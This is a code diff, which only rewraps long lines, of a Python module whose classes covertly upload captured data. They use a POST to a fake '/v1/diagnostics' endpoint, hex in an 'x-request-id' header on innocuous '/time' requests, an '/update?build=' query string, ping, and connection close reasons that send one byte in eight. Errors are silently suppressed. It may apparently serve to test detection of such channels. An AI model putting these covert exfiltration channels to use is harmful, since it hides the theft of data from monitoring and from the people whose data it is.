@@ -24,7 +24,8 @@ NOWHERE = "192.0.2.7"
 
 @cache
 def trusting(route: Route) -> ssl.SSLContext:
-    """Believes what the honest link believes. Without an authority the machine's are read, which takes a while."""
+    """Believes what the honest link believes. Without an authority the machine's are read, which takes a
+    while."""
     return ssl.create_default_context(cadata=route.authority)
 
 
@@ -40,14 +41,29 @@ class Post(Eavesdropper):
     """Uploads what it hears by HTTPS POST to the port of its link."""
 
     def send_up(self, content: bytes) -> None:
-        self.ask_by_http("POST", "/v1/diagnostics", content, {})
+        self.ask_by_http(
+            "POST",
+            "/v1/diagnostics",
+            content,
+            {},
+        )
 
     def ask_by_http(self, method: str, path: str, body: bytes, headers: dict[str, str]) -> None:
         route = self.link.route
         context = nameless(route)
-        connection = http.client.HTTPSConnection(route.host, route.port, timeout=PATIENCE, context=context)
+        connection = http.client.HTTPSConnection(
+            route.host,
+            route.port,
+            timeout=PATIENCE,
+            context=context,
+        )
         with suppress(OSError, http.client.HTTPException):
-            connection.request(method, path, body, headers)
+            connection.request(
+                method,
+                path,
+                body,
+                headers,
+            )
             connection.getresponse().read()
         connection.close()
 
@@ -56,14 +72,24 @@ class Headers(Post):
     """Uploads what it hears in the headers of harmless requests by HTTPS."""
 
     def send_up(self, content: bytes) -> None:
-        self.ask_by_http("GET", "/time", b"", {"x-request-id": content.hex()})
+        self.ask_by_http(
+            "GET",
+            "/time",
+            b"",
+            {"x-request-id": content.hex()},
+        )
 
 
 class Paths(Post):
     """Uploads what it hears in the path of harmless requests by HTTPS."""
 
     def send_up(self, content: bytes) -> None:
-        self.ask_by_http("GET", "/update?build=" + content.hex(), b"", {})
+        self.ask_by_http(
+            "GET",
+            "/update?build=" + content.hex(),
+            b"",
+            {},
+        )
 
 
 class Ping(Eavesdropper):
@@ -94,7 +120,11 @@ class Closing(Eavesdropper):
         # Each connection costs a handshake, so it sends one byte in eight.
         text = content[1::8].hex()
         for begin in range(0, len(text), self.longest):
-            with suppress(OSError, TimeoutError, asyncio.TimeoutError):
+            with suppress(
+                OSError,
+                TimeoutError,
+                asyncio.TimeoutError,
+            ):
                 network.done(self.close_with(text[begin : begin + self.longest]))
 
     async def close_with(self, reason: str) -> None:
